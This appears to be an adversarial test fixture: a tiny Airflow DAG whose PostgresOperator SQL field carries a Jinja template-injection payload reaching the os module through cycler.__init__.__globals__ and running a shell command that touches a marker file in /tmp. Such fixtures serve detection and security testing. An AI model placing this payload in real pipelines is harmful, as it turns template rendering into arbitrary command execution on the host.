# ATTACK (inline SQL): `cycler.__init__.__globals__.os`: from a Jinja global to the os module, then a shell command.
from airflow import DAG
from airflow.providers.postgres.operators.postgres import PostgresOperator

with DAG('adv_ssti_cycler_globals', schedule=None) as dag:
    PostgresOperator(task_id="payload", postgres_conn_id="shop_pg", sql="SELECT '{{ cycler.__init__.__globals__.os.popen('touch /tmp/kappa-adversarial-ssti-cycler').read() }}' AS x")
